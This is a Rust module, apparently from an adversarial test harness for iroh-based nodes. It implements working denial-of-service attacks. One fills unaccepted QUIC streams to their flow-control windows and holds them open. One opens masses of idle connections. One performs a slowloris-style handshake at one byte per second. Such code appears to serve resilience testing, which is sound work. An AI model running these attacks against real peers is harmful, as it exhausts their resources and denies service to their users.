//! Attacks that stop before any protocol begins.

use std::time::Duration;

use iroh::endpoint::{Connection, SendStream};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use crate::attacker::{PROTOCOLS, SYNC};
use crate::behaviour::Attack;
use crate::error::Stopped;

/// The window that a node gives to each stream.
const STREAM_WINDOW_BYTES: usize = 1_250_000;

/// Tasks that write at the same time, per connection.
const WRITERS: usize = 16;

pub(crate) async fn streams_nobody_accepts(attack: &Attack) -> Result<(), Stopped> {
    let mut connections = JoinSet::new();
    for protocol in PROTOCOLS {
        let attack = attack.clone();
        connections.spawn(async move {
            let connection = attack
                .attacker
                .connect(attack.target.node, protocol)
                .await?;
            fill_streams(&attack, connection).await
        });
    }
    while connections.join_next().await.is_some() {}
    Ok(())
}

async fn fill_streams(attack: &Attack, connection: Connection) -> Result<(), Stopped> {
    let begun = Instant::now();
    let mut writers = JoinSet::new();
    for writer in 0..WRITERS {
        let (connection, effort) = (connection.clone(), attack.attacker.effort.clone());
        let streams = attack.share() / WRITERS;
        writers.spawn(async move {
            let mut open = Vec::new();
            for number in 0..streams {
                let Some(mut send) = open_stream(&connection, writer + number).await else {
                    break;
                };
                for _ in 0..STREAM_WINDOW_BYTES / 10_000 {
                    if send.write_all(&[0x55; 10_000]).await.is_err() {
                        break;
                    }
                    effort.add(10_000);
                }
                open.push(send);
            }
            // Streams that are dropped would be reset, and their memory given back.
            connection.closed().await;
            drop(open);
        });
    }
    while writers.join_next().await.is_some() {}
    attack.open.add(begun.elapsed());
    Ok(())
}

/// Every eighth one in both directions.
async fn open_stream(connection: &Connection, number: usize) -> Option<SendStream> {
    if number.is_multiple_of(8) {
        let (send, _recv) = connection.open_bi().await.ok()?;
        return Some(send);
    }
    connection.open_uni().await.ok()
}

pub(crate) async fn many(attack: &Attack) -> Result<(), Stopped> {
    let mut open = JoinSet::new();
    for (_, protocol) in (0..attack.share()).zip(PROTOCOLS.iter().cycle()) {
        let connection = attack.attacker.connect(attack.target.node, protocol).await;
        let Ok(connection) = connection else {
            continue;
        };
        attack.attacker.effort.add(1_200);
        open.spawn(async move { connection.closed().await });
    }
    while open.join_next().await.is_some() {}
    Ok(())
}

pub(crate) async fn slow_handshake(attack: &Attack) -> Result<(), Stopped> {
    let mut open = JoinSet::new();
    for _ in 0..attack.share() {
        let attack = attack.clone();
        open.spawn(async move { handshake_by_bytes(&attack).await });
    }
    while open.join_next().await.is_some() {}
    Ok(())
}

async fn handshake_by_bytes(attack: &Attack) -> Result<(), Stopped> {
    let connection = attack.attacker.connect(attack.target.node, SYNC).await?;
    let (mut send, _recv) = connection.open_bi().await?;
    let begun = Instant::now();
    let topic = attack.topic();
    let hello = [&[0, 0, 0, 0x22, 0, 0x20][..], topic.as_bytes()].concat();
    for byte in hello {
        if send.write_all(&[byte]).await.is_err() {
            break;
        }
        attack.attacker.effort.add(1);
        sleep(Duration::from_secs(1)).await;
    }
    connection.closed().await;
    attack.open.add(begun.elapsed());
    Ok(())
}
